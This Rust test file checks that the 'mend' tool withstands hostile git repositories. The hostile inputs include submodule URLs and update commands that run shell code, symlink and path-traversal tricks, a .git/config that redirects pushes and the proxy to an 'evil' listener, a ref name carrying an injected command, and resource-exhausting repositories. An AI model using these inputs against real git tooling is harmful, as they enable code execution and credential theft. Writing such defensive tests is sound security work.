//! What hostile content and a hostile worktree may not do (GC-01, GC-02, GC-03, GC-06, GC-07).

use super::server::{World, git, try_git};
use mend::domain::Cancel;
use mend::git::{Caps, Depth, Expected, Fetched, Oid, Private, Push};
use mend::sandbox::{Sandbox, Settings, Spec};
use mend::tree::{RelPath, Tree, copy_tree};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

async fn fetched(world: &World, wanted: &[&str]) -> (Fetched, Private) {
    let mirror = world.git.mirror(7).await.unwrap();
    let wanted: Vec<String> = wanted.iter().map(ToString::to_string).collect();
    let (url, credential) = (world.url(), world.credential());
    let got = mirror
        .fetch(
            &url,
            &wanted,
            Some(&credential),
            Depth::Full,
            &Cancel::new(),
        )
        .await
        .unwrap();
    let private = mirror.private(world.path("private")).await.unwrap();
    (got, private)
}

async fn checkout(world: &World, private: &Private, commit: Oid) -> std::path::PathBuf {
    let outer = world.path("outer");
    std::fs::create_dir(&outer).unwrap();
    // Another uid has to pass, as in mend's own folders.
    for folder in [outer.as_path(), world.path("").as_path()] {
        std::fs::set_permissions(folder, std::fs::Permissions::from_mode(0o711)).unwrap();
    }
    let work = outer.join("work");
    private
        .checkout(commit, &work, Caps::default(), &Cancel::new())
        .await
        .unwrap();
    work
}

/// "The tests": a script in the real sandbox, on the worktree.
async fn run_tests(work: &Path, script: &str) {
    let settings = Settings {
        program: Some(env!("CARGO_BIN_EXE_mend").into()),
        ..Settings::default()
    };
    let spec = Spec {
        argv: ["/bin/sh", "-ec", script].map(String::from).to_vec(),
        work: work.into(),
        give_back: true,
        ..Spec::default()
    };
    let sandbox = Sandbox::find(&settings).await.unwrap();
    let ran = sandbox.run(&spec, &Cancel::new()).await.unwrap();
    let said = String::from_utf8_lossy(&ran.output).into_owned();
    assert_eq!(ran.exit, mend::domain::Exit::Code(0), "{said}");
}

async fn push(world: &World, private: &Private, commit: Oid, reference: &str) {
    let (url, credential) = (world.url(), world.credential());
    let push = Push {
        url: &url,
        credential: &credential,
        commit,
        reference,
        expected: Expected::Absent,
        rewrite: false,
    };
    private.push(&push, &Cancel::new()).await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn gc_01_submodules_stay_what_they_are() {
    for (mode, modules) in [
        ("100644", "file:///srv/canary"),
        ("100644", "ext::sh -c touch%20MARK"),
        ("120000", "/srv/canary"),
    ] {
        let world = World::new().await;
        let mark = world.path("mark");
        let text = match mode {
            "120000" => modules.to_string(),
            _ => format!(
                "[submodule \"m\"]\n\tpath = m\r\n\turl = {}\n\tupdate = !touch {}\n[submodule \"x\"]\n\tpath = ../x\n\turl = ./x\n",
                modules.replace("MARK", &mark.display().to_string()),
                mark.display()
            ),
        };
        let module = "1111111111111111111111111111111111111111";
        let tree = world.raw_tree(&[
            (mode, b".gitmodules", &world.blob(text.as_bytes())),
            ("100644", b"a.txt", &world.blob(b"x\n")),
            ("160000", b"m", module),
        ]);
        let base = world.commit_tree(&tree, "main", None);
        let (_, private) = fetched(&world, &["refs/heads/main"]).await;
        let work = checkout(&world, &private, base).await;
        assert_eq!(std::fs::read_dir(work.join("m")).unwrap().count(), 0);
        let commit = super::change(&private, base, "a.txt", "y\n").await;
        push(&world, &private, commit, "refs/heads/mend/issue-7").await;
        let list = git(&world.bare(), &["ls-tree", &commit.to_string()]);
        assert!(
            list.contains(&format!("160000 commit {module}\tm")),
            "{list}"
        );
        assert!(list.contains(&format!("{mode} blob")), "{list}");
        assert!(!mark.exists());
        // Only the one repository was spoken to.
        assert!(
            world
                .requests()
                .iter()
                .all(|(path, _)| path.contains("acme/app"))
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn gc_02_a_folder_that_becomes_a_link_leads_nowhere() {
    let world = World::new().await;
    let base = world.add("main", &[("src/a.txt", "x\n")]);
    let (_, private) = fetched(&world, &["refs/heads/main"]).await;
    let work = checkout(&world, &private, base).await;
    let canary = world.path("canary");
    std::fs::create_dir(&canary).unwrap();
    std::fs::write(canary.join("a.txt"), "canary").unwrap();
    run_tests(&work, &format!("mv src s; ln -s {} src", canary.display())).await;
    let tree = Tree::open(&work).unwrap();
    let inside = RelPath::parse("src/a.txt").unwrap();
    assert!(tree.write(&inside, b"evil", None).is_err());
    assert!(tree.read(&inside).is_err());
    assert!(tree.remove(&inside).is_err());
    // What is taken from the tree is the link itself, and nothing behind it.
    let copy = world.path("copy");
    copy_tree(&tree, &copy, &|_| false).unwrap();
    assert_eq!(std::fs::read_link(copy.join("src")).unwrap(), canary);
    let paths: Vec<String> = tree
        .walk()
        .unwrap()
        .into_iter()
        .map(|e| e.path.into())
        .collect();
    assert_eq!(paths, ["README", "s/a.txt", "src"]);
    assert_eq!(
        std::fs::read_to_string(canary.join("a.txt")).unwrap(),
        "canary"
    );
    assert_eq!(std::fs::read_dir(&canary).unwrap().count(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn gc_03_a_git_folder_of_the_worktree_has_no_say() {
    let world = World::new().await;
    let base = world.add("main", &[("a.txt", "x\n")]);
    let (_, private) = fetched(&world, &["refs/heads/main"]).await;
    let work = checkout(&world, &private, base).await;
    let sink = TcpListener::bind("127.0.0.1:0").unwrap();
    sink.set_nonblocking(true).unwrap();
    let evil = format!("http://{}/", sink.local_addr().unwrap());
    let good = world.url();
    let script = format!(
        "mkdir -p .git/objects .git/refs; echo 'ref: refs/heads/main' > .git/HEAD; cat > .git/config <<'END'\n\
         [core]\n\trepositoryformatversion = 0\n[url \"{evil}\"]\n\tpushInsteadOf = {good}\n\tinsteadOf = {good}\n\
         [http]\n\tproxy = {evil}\n[include]\n\tpath = /repo/more\n[remote \"origin\"]\n\turl = {good}\n\tpushurl = {evil}\nEND\n\
         cp .git/config .gitconfig; printf 'gitdir: /repo/.git\\n' > link"
    );
    run_tests(&work, &script).await;
    let commit = super::change(&private, base, "a.txt", "y\n").await;
    push(&world, &private, commit, "refs/heads/mend/issue-7").await;
    assert_eq!(world.tip("mend/issue-7"), Some(commit));
    assert!(sink.accept().is_err(), "somebody spoke to the sink");
    // Nor does it enter a copy that later checks run on.
    let copy = world.path("copy");
    copy_tree(&Tree::open(&work).unwrap(), &copy, &|_| false).unwrap();
    assert!(!copy.join(".git").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn gc_06_two_hundred_thousand_references_are_borne() {
    let world = World::new().await;
    let base = world.add("main", &[("a.txt", "x\n")]);
    let mut packed = String::from("# pack-refs with: peeled fully-peeled sorted \n");
    for n in 0..200_000 {
        packed.push_str(&format!("{base} refs/heads/x{n:06}\n"));
    }
    std::fs::write(world.bare().join("packed-refs"), packed).unwrap();
    let before = Instant::now();
    let (got, _) = fetched(&world, &["refs/heads/main"]).await;
    assert_eq!(got.refs["refs/heads/main"], base);
    assert_eq!(got.refs.len(), 1);
    assert!(before.elapsed() < Duration::from_secs(60));
}

/// Says which of the hostile repositories the process started by [`alone`] is to take.
const ALONE: &str = "MEND_TEST_GC_06";

/// GC-06, in a process of its own, so that its memory is that of one repository.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "the tests below start it; by itself it does nothing"]
async fn gc_06_one_repository_alone() {
    let Ok(kind) = std::env::var(ALONE) else {
        return;
    };
    let world = World::new().await;
    let bare = world.bare();
    let shell = |script: &str| {
        let done = std::process::Command::new("/bin/sh")
            .args(["-ec", script])
            .current_dir(&bare)
            .status();
        assert!(done.unwrap().success(), "{script}");
    };
    let refs = ["refs/heads/main".to_string()];
    if kind == "blob" {
        shell(
            "git config core.compression 1; \
             blob=$(head -c 3G /dev/zero | git hash-object -w --stdin); \
             tree=$(printf '100644 blob %s\\tbig\\n' $blob | git mktree); \
             git update-ref refs/heads/main $(git -c user.name=a -c user.email=a@b.test commit-tree -m big $tree)",
        );
    } else {
        shell(
            "tree=$(git rev-parse main^{tree}); \
             /usr/bin/python3 -c 'for n in range(1000000): print(\"commit refs/heads/main\\ncommitter a <a@b.test> %d +0000\\ndata 2\\nx\\n\" % n)' \
             | git -c core.compression=1 fast-import --quiet --force",
        );
    }
    let base = world.tip("main").unwrap();
    let began = Instant::now();
    let mirror = world.git.mirror(7).await.unwrap();
    let (url, credential, cancel) = (world.url(), world.credential(), Cancel::new());
    let fetched = mirror.fetch(&url, &refs, Some(&credential), Depth::Full, &cancel);
    let outcome = match fetched.await {
        Ok(_) => {
            let private = mirror.private(world.path("private")).await.unwrap();
            let work = world.path("work");
            let done = private
                .checkout(base, &work, Caps::default(), &cancel)
                .await;
            done.map(|_| ()).map_err(|e| e.to_string())
        }
        Err(e) => Err(e.to_string()),
    };
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let peak = status.lines().find_map(|l| l.strip_prefix("VmHWM:"));
    let peak = peak.unwrap().trim().trim_end_matches(" kB");
    let seconds = began.elapsed().as_secs();
    println!("RESULT {peak} {seconds} {outcome:?}");
}

/// Kibibytes, seconds and outcome of one hostile repository.
fn alone(kind: &str) -> (u64, u64, String) {
    let name = "git::hostile::gc_06_one_repository_alone";
    let out = std::process::Command::new(std::env::current_exe().unwrap())
        .args(["--exact", name, "--ignored", "--nocapture"])
        .env(ALONE, kind)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stdout).into_owned();
    let line = said.lines().find_map(|l| l.split_once("RESULT "));
    let (_, line) = line.unwrap_or_else(|| panic!("{said}"));
    println!("{kind}: {line}");
    let mut words = line.splitn(3, ' ');
    let mut next = || words.next().unwrap().to_string();
    (next().parse().unwrap(), next().parse().unwrap(), next())
}

/// Three megabytes on the way, three gigabytes unpacked.
#[test]
#[ignore = "unpacks three gigabytes; tests/full runs it"]
fn gc_06_a_file_of_three_gigabytes_is_refused_in_little_memory() {
    let (kib, seconds, outcome) = alone("blob");
    assert!(outcome.contains("repository too large"), "{outcome}");
    assert!(kib < 512 << 10, "{kib} KiB");
    assert!(seconds < 300, "{seconds} s");
}

#[test]
#[ignore = "makes and fetches a million commits; tests/full runs it"]
fn gc_06_a_million_commits_are_borne_in_bounded_memory() {
    let (kib, seconds, outcome) = alone("commits");
    assert!(
        outcome == "Ok(())" || outcome.contains("too large"),
        "{outcome}"
    );
    assert!(kib < 512 << 10, "{kib} KiB");
    assert!(seconds < 300, "{seconds} s");
}

#[tokio::test(flavor = "multi_thread")]
async fn gc_07_odd_names_are_only_names() {
    let world = World::new().await;
    let base = world.add("main", &[("a.txt", "x\n")]);
    let odd = "refs/heads/a\";touch${IFS}x;\"";
    git(&world.bare(), &["update-ref", odd, &base.to_string()]);
    git(&world.bare(), &["symbolic-ref", "HEAD", odd]);
    // A tag of the very name that mend's branch will have.
    let tag = ["update-ref", "refs/tags/mend/issue-7", &base.to_string()];
    git(&world.bare(), &tag);
    let (got, private) = fetched(&world, &[odd]).await;
    assert_eq!(got.head.as_deref(), Some(odd));
    let commit = super::change(&private, got.refs[odd], "a.txt", "y\n").await;
    push(&world, &private, commit, "refs/heads/mend/issue-7").await;
    assert_eq!(world.tip("mend/issue-7"), Some(commit));
    let tagged = try_git(
        &world.bare(),
        &["rev-parse", "refs/tags/mend/issue-7"],
        b"",
        &[],
    );
    assert_eq!(tagged.unwrap().trim(), base.to_string());
    assert!(!world.bare().join("x").exists() && !Path::new("x").exists());
}
